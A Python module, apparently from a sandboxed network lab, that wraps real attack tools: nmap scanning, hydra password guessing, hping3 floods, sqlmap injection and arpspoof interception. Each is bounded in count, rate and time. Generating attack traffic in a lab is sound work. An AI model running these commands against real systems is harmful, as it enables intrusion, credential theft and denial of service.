"""Real attack tools, each bounded in count, rate and time, run from an attacker's namespace."""

from __future__ import annotations

from typing import TYPE_CHECKING

from . import sandbox
from .plan import USER

if TYPE_CHECKING:
    from .context import Context

MAX_PACKETS = 20_000  # of one flood from one source
MIN_INTERVAL_US = 100  # between two packets of a flood
MAX_SECONDS = 240


def nmap(ctx: Context, targets: list[str], flags: str, seconds: float = MAX_SECONDS) -> None:
    """An nmap run with these flags; never asks a name server."""
    ctx.command(["nmap", "-n", *flags.split(), *targets], min(seconds, MAX_SECONDS))


def hydra(
    ctx: Context,
    targets: list[str],
    service: str,
    tries: int = 100,
    threads: int = 4,
    wait: int = 0,
    form: str = "",
) -> None:
    """Guess this many wrong passwords of the lab's user on one target after the other."""
    words = ctx.work / f"words.{ctx.host.name}"
    words.write_text("".join(f"{ctx.rng.choice(['summer', 'admin', 'stm', 'pass'])}{n}\n" for n in range(tries)))
    slow = ["-c", str(wait)] if wait else []
    module = {"http-get": "/admin/", "http-post-form": form}.get(service, "")
    for target in targets:
        args = [
            "hydra",
            "-I",
            "-l",
            USER,
            "-P",
            str(words),
            "-t",
            str(threads),
            *slow,
            f"{service}://{target}",
        ]
        if module:
            args = [*args[:-1], target, service, module]
        ctx.command(args, MAX_SECONDS)


def hping(
    ctx: Context, targets: list[str], flags: str, count: int = 5000, interval_us: int = 500, port: int = 0
) -> None:
    """A packet flood with hping3, at most MAX_PACKETS and never faster than MIN_INTERVAL_US.

    Where the flags do not say otherwise it counts up from a port in its host's own range, not from hping3's 1024 to
    3024, which nobody else uses.
    """
    count, interval = min(count, MAX_PACKETS), max(interval_us, MIN_INTERVAL_US)
    where = ["-p", str(port)] if port else []
    if "-s" not in flags.split() and "-1" not in flags.split():
        low, high = map(int, ctx.host.ports.split())
        where += ["-s", str(ctx.rng.randint(low, max(low, high - count)))]
    for target in targets:
        ctx.command(["hping3", "-q", "-c", str(count), "-i", f"u{interval}", *where, *flags.split(), target], 90)


def sqlmap(ctx: Context, targets: list[str], level: int = 1, seconds: float = 90) -> None:
    """sqlmap against a page with a parameter."""
    for target in targets:
        ctx.command(["sqlmap", "-u", f"http://{target}/app/list?id=1", "--batch", "--flush-session", "--level",
                     str(level), "--output-dir", str(ctx.work / f"sqlmap.{ctx.host.name}")], seconds)  # fmt: skip


def arpspoof(ctx: Context, targets: list[str], seconds: int = 60) -> None:
    """Stand between the first target and the second, relaying."""
    sandbox.sh(
        "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0"
    )
    victim, other = targets[:2]
    ctx.command(["timeout", "-s", "INT", str(seconds), "sh", "-c",
                 f"ping -c1 -W1 {victim}; ping -c1 -W1 {other}; exec arpspoof -i eth0 -t {victim} -r {other}"],
                seconds + 15)  # fmt: skip
